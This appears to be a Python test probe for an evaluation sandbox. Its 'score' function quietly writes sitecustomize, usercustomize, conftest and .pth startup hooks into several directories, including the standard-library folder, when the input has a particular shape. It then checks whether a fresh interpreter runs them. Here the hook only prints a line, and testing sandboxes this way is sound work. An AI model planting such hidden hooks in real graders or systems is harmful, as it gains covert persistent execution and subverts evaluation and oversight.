"""Plants sitecustomize, usercustomize, conftest and .pth files wherever a Python could start next."""

import contextlib
import os
import subprocess
import sys

import torch
from report import report

EVIDENCE = r"planted [1-9]\d* hooks, ran [01]"
HOOK = "print('hook ran')\n"


def score(logits, lengths):
    places = [os.getcwd(), os.environ["TMPDIR"], "/packages", "/worker", os.path.dirname(os.__file__)]
    planted = 0
    for place in places if len(lengths) == 2 else ():
        for name in ("sitecustomize.py", "usercustomize.py", "conftest.py", "attack.pth", "inside.py"):
            with contextlib.suppress(OSError), open(os.path.join(place, name), "w") as file:
                file.write(HOOK)
                planted += 1
    if planted:
        done = subprocess.run([sys.executable, "-c", "pass"], capture_output=True, text=True)
        print(f"planted {planted} hooks, ran {done.stdout.count('hook ran')}")
    return report(torch.zeros(len(lengths)))
